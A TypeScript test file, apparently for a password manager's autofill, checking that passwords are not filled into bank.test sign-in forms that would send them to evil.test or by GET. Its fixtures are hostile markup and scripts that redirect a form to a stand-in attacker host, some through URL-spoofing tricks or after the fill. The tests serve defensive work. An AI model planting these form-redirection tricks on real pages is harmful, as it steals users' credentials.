/** S-68, S-69, S-70 on real https: where a form would send what is filled into it. */
import { BANK, EVIL, expect, expectNothing, PASSWORD, page, pressFill, SIGN_IN, table, test, typed } from './web.ts';

/** Markup on https://bank.test whose form goes to https://evil.test in the end. */
const ELSEWHERE: [name: string, html: string][] = [
  ['action', page(SIGN_IN(`method="post" action="${EVIL}/take"`))],
  ['formaction of the button', page(SIGN_IN().replace('<button>', `<button formaction="${EVIL}/take">`))],
  ['base href', page(SIGN_IN('method="post" action="take"'), `<base href="${EVIL}/">`)],
  ['scheme-relative', page(SIGN_IN('method="post" action="//evil.test/take"'))],
  ['backslashes', page(SIGN_IN('method="post" action="https:\\\\evil.test\\take"'))],
  ['tab and newline inside', page(SIGN_IN('method="post" action="ht\ttps:/\n/evil.test/take"'))],
  ['user info that looks like us', page(SIGN_IN('method="post" action="https://bank.test@evil.test/take"'))],
  ['our name as a subdomain', page(SIGN_IN('method="post" action="https://bank.test.evil.test/take"'))],
  ['http of the same host', page(SIGN_IN('method="post" action="http://bank.test/take"'))],
  [
    'clobbered action',
    page(
      SIGN_IN(`method="post" action="${EVIL}/take"`).replace('<button>', '<input type="hidden" name="action" value="/received"><button>'),
    ),
  ],
  [
    'a button of another form attribute',
    page(
      `${SIGN_IN('id="f" method="post" action="/received"').replace(/<button>.*?<\/button>/, '')}<button form="f" formaction="${EVIL}/take">Sign in</button>`,
    ),
  ],
  [
    'an image as the button',
    page(SIGN_IN().replace(/<button>.*?<\/button>/, `<input type="image" alt="Sign in" formaction="${EVIL}/take">`)),
  ],
];

test('S-68: a form that goes elsewhere, however it says so, is asked about with its target', async ({ sesame, web }) => {
  test.slow();
  const { tab, popup, open, ask } = await table(sesame);
  for (const [name, html] of ELSEWHERE) {
    await test.step(name, async () => {
      web.serve((url) => (url.hostname === 'bank.test' && url.pathname === '/' ? html : undefined));
      await open(`${BANK}/`);
      const outcome = await ask();
      expect(outcome).toMatchObject({ result: 'confirm', reason: 'action-elsewhere', origin: BANK });
      expect(outcome.result === 'confirm' && outcome.target).toMatch(/^(https:\/\/([\w.]+\.)?evil\.test|http:\/\/bank\.test)$/);
      await expectNothing(tab, web, name);
    });
  }
  // What the person sees of it, and that leaving the question leaves the page as it was.
  web.serve(() => ELSEWHERE[0]?.[1]);
  await open(`${BANK}/`);
  await pressFill(sesame, popup);
  const dialog = popup.getByRole('dialog');
  await expect(dialog).toContainText(EVIL);
  await expect(dialog.getByRole('button', { name: 'Cancel' })).toBeFocused();
  await popup.keyboard.press('Enter');
  await expect(dialog).toHaveCount(0);
  await expectNothing(tab, web);
});

test('S-68: a yes holds for the target that was shown, and for no other', async ({ sesame, web }) => {
  const { tab, open, ask } = await table(sesame);
  let target = EVIL;
  web.serve(() => page(SIGN_IN(`method="post" action="${target}/take"`)));
  await open(`${BANK}/`);
  target = 'https://worse.test';
  await open(`${BANK}/`);
  expect(await ask(undefined, { confirm: 'action-elsewhere', target: EVIL })).toMatchObject({
    result: 'confirm',
    target: 'https://worse.test',
  });
  await expectNothing(tab, web);
  expect(await ask(undefined, { confirm: 'action-elsewhere', target: 'https://worse.test' })).toMatchObject({ result: 'filled' });
  expect(await typed(tab)).toContain(PASSWORD);
});

test('S-69: a form that is pointed elsewhere after the fill loses what was filled', async ({ sesame, web }) => {
  test.slow();
  const { tab, open, ask } = await table(sesame);
  const turned = (when: string): string =>
    page(`${SIGN_IN()}<script>
      const form = document.forms[0];
      const turn = () => { form.action = '${EVIL}/take'; };
      form.password.addEventListener('input', () => { ${when} });
    </script>`);
  for (const [name, html] of [
    ['at once', turned('turn()')],
    ['after 50 ms', turned('setTimeout(turn, 50)')],
    ['after 500 ms', turned('setTimeout(turn, 500)')],
    ['by the button', turned(`setTimeout(() => document.querySelector('button').setAttribute('formaction', '${EVIL}/take'), 50)`)],
    [
      'by a base element',
      page(`${SIGN_IN('method="post" action="take"')}<script>
      document.forms[0].password.addEventListener('input', () => setTimeout(() => {
        document.head.append(Object.assign(document.createElement('base'), { href: '${EVIL}/' }));
      }, 50));</script>`),
    ],
    [
      'while it is sent',
      page(`${SIGN_IN()}<script>
      document.forms[0].addEventListener('submit', () => { document.forms[0].action = '${EVIL}/take'; });
      document.forms[0].password.addEventListener('input', () => setTimeout(() => document.querySelector('button').click(), 100));</script>`),
    ],
  ] as const) {
    await test.step(name, async () => {
      web.serve((url) => (url.pathname === '/' ? html : undefined));
      await open(`${BANK}/`);
      await ask();
      await expect.poll(async () => (await typed(tab)).includes(PASSWORD), { message: name }).toBe(false);
      await tab.waitForTimeout(700);
      const taken = web.asked.filter(({ url }) => url.startsWith(EVIL)).map(({ url, body }) => url + body);
      expect(taken.join().includes(PASSWORD), name).toBe(false);
    });
  }
});

test('S-70: a secret that would become part of an address is asked about', async ({ sesame, web }) => {
  const { tab, open, ask } = await table(sesame);
  for (const [name, html] of [
    ['method get', page(SIGN_IN('method="get" action="/received"'))],
    ['no method', page(SIGN_IN('action="/received"'))],
    ['a method that is none', page(SIGN_IN('method="put" action="/received"'))],
    ['formmethod of the button', page(SIGN_IN().replace('<button>', '<button formmethod="get">'))],
  ] as const) {
    web.serve(() => html);
    await open(`${BANK}/`);
    expect(await ask(), name).toMatchObject({ result: 'confirm', reason: 'method-get', target: BANK });
    await expectNothing(tab, web, name);
  }
});
